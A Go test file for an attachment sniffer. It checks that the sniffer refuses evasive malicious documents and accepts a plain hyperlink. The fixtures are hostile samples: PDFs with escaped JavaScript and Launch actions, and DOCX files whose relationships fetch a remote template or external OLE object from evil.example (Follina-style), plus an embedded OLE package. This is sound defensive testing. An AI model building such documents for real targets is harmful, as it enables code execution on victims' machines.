package zhudun_test

import (
	"archive/zip"
	"bytes"
	"testing"

	"github.com/zhudun/zhudun"
)

// zipWith builds a zip of the named parts with their contents.
func zipWith(t testing.TB, parts ...string) []byte {
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for i := 0; i+1 < len(parts); i += 2 {
		w, err := zw.Create(parts[i])
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte(parts[i+1]))
	}
	zw.Close()
	return b.Bytes()
}

// TestSniffAttachmentEvasions: what an attacker sends past a sniffer that
// looks at names only. A PDF name written with #xx escapes is the same
// name to a reader; a DOCX whose relationship fetches an external
// template or OLE object (CVE-2022-30190 "Follina", CVE-2017-0199) runs
// without macros; an embedded OLE package carries any executable. A plain
// hyperlink stays accepted.
func TestSniffAttachmentEvasions(t *testing.T) {
	const ct = `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`
	rels := func(typ, target string) string {
		return `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/` +
			typ + `" Target="` + target + `" TargetMode="External"/></Relationships>`
	}
	for _, c := range []struct {
		name string
		data []byte
		want string
	}{
		{"pdf javascript escaped", []byte("%PDF-1.4\n1 0 obj << /OpenAction << /S /J#61vaScript /JS (app.alert(1)) >> >> endobj"), ""},
		{"pdf launch escaped", []byte("%PDF-1.4\n<< /S /#4C#61unch /F (cmd.exe) >>"), ""},
		{"docx remote template", zipWith(t, "[Content_Types].xml", ct, "word/document.xml", "<w:document/>",
			"word/_rels/settings.xml.rels", rels("attachedTemplate", "http://evil.example/t.dotm")), ""},
		{"docx external ole object", zipWith(t, "[Content_Types].xml", ct, "word/document.xml", "<w:document/>",
			"word/_rels/document.xml.rels", rels("oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html")), ""},
		{"docx embedded ole package", zipWith(t, "[Content_Types].xml", ct, "word/document.xml", "<w:document/>",
			"word/embeddings/oleObject1.bin", "\xD0\xCF\x11\xE0"), ""},
		{"docx with a hyperlink", zipWith(t, "[Content_Types].xml", ct, "word/document.xml", "<w:document/>",
			"word/_rels/document.xml.rels", rels("hyperlink", "https://www.gov.cn/")), "docx"},
	} {
		got, err := zhudun.SniffAttachment(c.data)
		if c.want == "" {
			if err == nil || zhudun.ErrorCode(err) != zhudun.EINVALID {
				t.Errorf("%s: %v %v; want refused", c.name, got.ID, err)
			}
			continue
		}
		if err != nil || got.ID != c.want {
			t.Errorf("%s: %q %v; want %s", c.name, got.ID, err, c.want)
		}
	}
}
